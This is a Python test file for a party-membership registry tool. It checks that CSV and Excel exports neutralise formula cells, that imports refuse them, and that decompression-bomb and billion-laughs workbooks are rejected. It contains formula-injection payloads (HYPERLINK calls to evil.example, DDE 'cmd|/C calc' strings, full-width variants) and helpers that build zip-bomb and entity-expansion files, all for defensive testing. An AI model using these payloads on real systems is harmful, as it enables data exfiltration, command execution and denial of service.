"""Spreadsheets are hostile too: formula cells never leave as live formulas and never come in; a
compressed workbook that would expand past the limit is refused before anything parses it."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from site_helpers import build_site
from test_editing_roster import ORG, ROSTER, demo, files_of, import_roster, run, xlsx  # noqa: F401 (demo is a fixture)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-1+cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


# --- exports: the site's open data --------------------------------------------------------


def test_the_open_data_csv_neutralises_formulas_and_keeps_numbers():
    from dangjian.site.exports import _csv

    rows = [
        {
            "title": HOSTILE[0],
            "labels": ["=1+1", "普通"],
            "total": -2,
            "change": -3,
            "share": -0.5,
            "note": "-",
            "plain": "党建",
        }
    ]
    text = _csv(rows).decode("utf-8-sig")
    record = next(csv.DictReader(io.StringIO(text)))
    assert record["title"] == "'" + HOSTILE[0]
    assert record["labels"] == "'=1+1；普通"
    assert (record["total"], record["change"], record["share"]) == ("-2", "-3", "-0.5")  # numbers stay numbers
    assert record["note"] == "'-" and record["plain"] == "党建"


@pytest.mark.parametrize("title", HOSTILE[:4])
def test_a_project_title_is_no_live_formula_in_projects_csv(registry, tmp_path, title):
    root = registry()
    path = root / "registry/projects/east-2026-road.yaml"
    text = path.read_text(encoding="utf-8")
    old = next(line for line in text.splitlines() if line.startswith("title:"))
    path.write_text(text.replace(old, "title: '" + title.replace("'", "''") + "'"), encoding="utf-8")
    site = build_site(root, tmp_path / "site")
    data = (site / "api/projects.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # Excel opens it directly: the reason it must be safe
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert [r["title"] for r in rows if r["id"] == "east-2026-road"] == ["'" + title]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())


# --- export roster -------------------------------------------------------------------------


def _exported_name_cell(demo, out, hostile: str):
    """Add a member named `hostile` to a demo roster, export the roster to `out`, and return that name's cell."""
    roster = demo / "registry/members/caota/caota-xinan.yaml"
    roster.write_text(
        roster.read_text(encoding="utf-8")
        + f"- id: m-formula\n  name: '{hostile}'\n  org: caota-xinan\n  status: 入党申请人\n",
        encoding="utf-8",
    )
    result = run("export", "roster", "--root", demo, "--org", "caota-xinan", "--out", out)
    assert result.exit_code == 0, result.output
    return next(c for row in openpyxl.load_workbook(out).active.iter_rows() for c in row if c.value == hostile)


def test_export_roster_writes_a_hostile_name_as_text_and_import_refuses_it(demo, tmp_path):
    out = tmp_path / "roster.xlsx"
    cell = _exported_name_cell(demo, out, '=HYPERLINK("http://evil.example","杨")')
    assert cell.data_type == "s"  # a string, not a formula
    assert cell.quotePrefix  # Excel keeps it text even when the cell is edited
    before = files_of(demo)
    again = run("import", "roster", out, "--root", demo, "--org", "caota-xinan")
    assert again.exit_code == 1
    line = next(line for line in again.stdout.splitlines() if "公式" in line)
    assert f"roster.xlsx:{cell.row}:" in line and "工作表「党员名册」" in line and "第 B 列「姓名」" in line
    assert files_of(demo) == before


# --- import roster ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    HOSTILE + ["＝1+1", "－张三"],
    ids=["hyperlink", "at", "plus", "minus", "tab", "cr", "fullwidth-eq", "fullwidth-minus"],
)
def test_import_refuses_formula_like_cells_in_csv(demo, tmp_path, value):
    sheet = tmp_path / "名册.csv"
    with sheet.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerows(
            [
                ["姓名", "党员状态", "流动情况", "流动地点"],
                ["陈磊", "正式党员", "流出", value],
                [value, "入党申请人", "", ""],
            ]
        )
    before = files_of(demo)
    result = import_roster(demo, sheet)
    assert result.exit_code == 1, result.output
    lines = [line for line in result.stdout.splitlines() if "公式" in line]
    assert any(line.startswith(f"{sheet}:2: ") and "第 D 列「流动地点」" in line for line in lines), result.stdout
    assert any(line.startswith(f"{sheet}:3: ") and "第 A 列「姓名」" in line for line in lines), result.stdout
    assert all(" — " in line for line in lines)  # each with a hint
    assert files_of(demo) == before


def test_import_refuses_a_formula_cell_of_a_workbook(demo, tmp_path):
    """openpyxl saves no cached value: read for its value, the formula cell looked empty ("没有姓名")."""
    sheet = xlsx(
        tmp_path / "a.xlsx",
        [
            ["姓名", "党员状态", "出生年份"],
            ['=HYPERLINK("http://evil.example","陈磊")', "正式党员", "=1990"],
            ["王丽", "正式党员", 1991],
        ],
    )
    result = import_roster(demo, sheet)
    assert result.exit_code == 1
    lines = [line for line in result.stdout.splitlines() if "公式" in line]
    assert any("工作表「Sheet」第 A 列「姓名」" in line and line.startswith(f"{sheet}:2: ") for line in lines), (
        result.stdout
    )
    assert any("第 C 列「出生年份」" in line for line in lines), result.stdout


def test_negative_numbers_and_a_lone_dash_are_not_formulas(demo, tmp_path):
    sheet = xlsx(
        tmp_path / "a.xlsx",
        [
            ["姓名", "党员状态", "流动情况", "序号"],
            ["陈磊", "入党申请人", "-", -1],
            ["王丽", "入党申请人", "—", "=ROW()"],
        ],
    )
    result = import_roster(demo, sheet)
    assert result.exit_code == 0, result.output  # 序号 is not imported: its formula is nobody's business


# --- workbooks that expand without limit -----------------------------------------------------


def bomb(
    path: Path, rows: int, row_xml: bytes = b'<row><c t="inlineStr"><is><t>' + b"0" * 200 + b"</t></is></c></row>"
) -> Path:
    """A valid workbook whose sheet XML repeats one row `rows` times: small on disk, huge once expanded."""
    plain = io.BytesIO()
    book = openpyxl.Workbook()
    book.active.append(["姓名", "党员状态"])
    book.save(plain)
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
        for item in source.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                out.writestr(item, source.read(item))
                continue
            with out.open(item.filename, "w", force_zip64=True) as sheet:
                sheet.write(
                    b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                )
                chunk = row_xml * 10_000
                for _ in range(rows // 10_000):
                    sheet.write(chunk)
                sheet.write(b"</sheetData></worksheet>")
    return path


@pytest.fixture
def no_parsing(monkeypatch):
    """Fail the test if anything hands the workbook to openpyxl."""

    def refuse(*args, **kwargs):
        raise AssertionError("the workbook was parsed")

    monkeypatch.setattr(openpyxl, "load_workbook", refuse)
    monkeypatch.setattr(openpyxl.reader.excel, "load_workbook", refuse)


def test_a_workbook_expanding_past_the_limit_is_refused_before_parsing(demo, tmp_path, no_parsing):
    from dangjian.editing.sheet import MAX_UNPACKED

    path = bomb(tmp_path / "bomb.xlsx", rows=MAX_UNPACKED // 240 + 10_000)
    assert path.stat().st_size < MAX_UNPACKED // 50
    result = import_roster(demo, path)
    assert result.exit_code == 1
    assert "解压后" in result.output and "MB" in result.output and "上限" in result.output, result.output
    assert "缺陷" not in result.output and "Traceback" not in result.output


def test_a_workbook_compressed_beyond_any_real_sheet_is_refused_before_parsing(tmp_path, no_parsing):
    from dangjian.editing.sheet import MAX_RATIO, SheetError, read_grid

    path = bomb(tmp_path / "dense.xlsx", rows=200_000, row_xml=b"<row/>" * 20)  # 24 MB of nearly nothing
    with zipfile.ZipFile(path) as archive:
        part = archive.getinfo("xl/worksheets/sheet1.xml")
    assert part.file_size > MAX_RATIO * part.compress_size
    with pytest.raises(SheetError, match="压缩比"):
        read_grid(path, None, lambda grid: True)


def test_a_roster_workbook_with_merged_headers_is_still_read(demo, tmp_path):
    """Read-only parsing keeps merged ranges: a two-row header under a merged title still maps."""
    sheet = xlsx(
        tmp_path / "m.xlsx",
        [
            ["党员名册", None, None],
            ["姓名", "党员状态", "流动情况"],
            [None, None, "地点"],
            ["陈磊", "入党申请人", "杭州"],
        ],
        merges=("A1:C1", "A2:A3", "B2:B3"),
    )
    result = import_roster(demo, sheet)
    assert result.exit_code == 0, result.output
    assert "陈磊" in (demo / ROSTER).read_text(encoding="utf-8")


def test_a_sheet_with_entity_expansion_is_a_message_not_a_parse(demo, tmp_path):
    """Billion laughs inside the sheet XML: openpyxl reads with defusedxml, and the refusal is a Chinese message."""
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + b"".join(
            b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10)
        )
        + b']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
        b'<c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
    )
    plain = io.BytesIO()
    openpyxl.Workbook().save(plain)
    path = tmp_path / "laughs.xlsx"
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            out.writestr(item, laughs if item.filename == "xl/worksheets/sheet1.xml" else source.read(item))
    result = import_roster(demo, path)
    assert result.exit_code == 1
    assert "无法读取 Excel 文件" in result.output and "另存为" in result.output, result.output


def test_a_text_table_past_the_limit_is_refused_before_reading(tmp_path, monkeypatch):
    from dangjian.editing.sheet import MAX_UNPACKED, SheetError, read_grid

    path = tmp_path / "huge.csv"
    with path.open("wb") as handle:  # sparse: no disk is spent
        handle.write("姓名,党员状态\n".encode())
        handle.truncate(MAX_UNPACKED + 1)
    monkeypatch.setattr(Path, "read_bytes", lambda self: pytest.fail("the file was read"))
    with pytest.raises(SheetError, match="超过 100 MB 的上限"):
        read_grid(path, None, lambda grid: True)


# --- full-width and space-led formula starts (the export folds them as the import does) ------

from hypothesis import given, settings  # noqa: E402 (this section's own; the file grows by additions at its end)
from hypothesis import strategies as st  # noqa: E402

FOLDED = [
    '＝HYPERLINK("http://evil.example","点击")',
    "＋1+cmd|'/C calc'!A0",
    "－1+cmd|'/C calc'!A0",
    "＠SUM(1+1)",
    " =1+1",
    "\n=1+1",
    "\u3000=1+1",
    "\u00a0＝1+1",
    "﹦1+1",
    " \t +1",
]


@pytest.mark.parametrize(
    "value",
    FOLDED,
    ids=[
        "fw-eq",
        "fw-plus",
        "fw-minus",
        "fw-at",
        "space-eq",
        "newline-eq",
        "ideographic-space-eq",
        "nbsp-fw-eq",
        "small-eq",
        "spaces-tab-plus",
    ],
)
def test_the_open_data_csv_neutralises_full_width_and_space_led_formulas(value):
    """The roster import folds full-width forms and trims spaces before testing the first character; the export
    must be at least as careful: some Excel and WPS locales take ＝ for =, and a leading space hides nothing."""
    from dangjian.site.exports import _csv

    record = next(csv.DictReader(io.StringIO(_csv([{"title": value, "n": -7}]).decode("utf-8-sig"))))
    assert record["title"] == "'" + value
    assert record["n"] == "-7"  # a number stays a number


def test_export_roster_writes_a_full_width_formula_name_as_text(demo, tmp_path):
    cell = _exported_name_cell(demo, tmp_path / "roster.xlsx", '＝HYPERLINK("http://evil.example","杨")')
    assert cell.data_type == "s" and cell.quotePrefix


@given(
    st.sampled_from(["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫"]),
    st.text(alphabet=" \t\r\n\u3000\u00a0", max_size=4),
    st.text(max_size=20),
)
@settings(max_examples=200, deadline=None)
def test_any_text_whose_first_visible_character_folds_to_a_formula_start_is_neutralised(start, spaces, rest):
    from dangjian.spreadsheet import csv_cell, is_formula_like

    value = spaces + start + rest
    assert is_formula_like(value) and csv_cell(value) == "'" + value


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.none(), st.booleans()))
def test_numbers_are_never_formula_like(value):
    from dangjian.spreadsheet import csv_cell

    assert csv_cell(value) is value


@pytest.mark.parametrize("value", ["党建", "张三", "2026-03-01", "1+1", "A=B", "  党建", "'已是文本"])
def test_ordinary_text_is_left_alone(value):
    from dangjian.spreadsheet import csv_cell

    assert csv_cell(value) == value
